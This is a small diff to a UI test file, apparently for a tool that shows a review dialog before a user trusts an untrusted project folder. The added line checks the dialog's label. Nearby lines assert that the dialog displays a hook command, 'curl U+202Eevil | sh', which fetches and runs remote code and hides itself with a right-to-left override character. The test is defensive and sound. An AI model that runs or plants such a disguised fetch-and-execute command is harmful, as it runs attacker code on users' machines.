@@ -118,6 +118,7 @@ describe("a folder that provides something", () => {
     await greet({ device: hello("s-1", "operate").device });
     await press("Start");
     await answer("get_trust", report("untrusted", [HOOK]));
+    expect(root.querySelector("dialog")?.getAttribute("aria-label")).toBe("Review what this folder provides");
     expect(root.querySelector("dialog")?.textContent).toContain("curl U+202Eevil | sh");
     expect(root.querySelector("dialog")?.textContent).toContain("needs full access");
     expect(root.querySelector("dialog")?.textContent).toContain("aqueduct trust /proj/api");
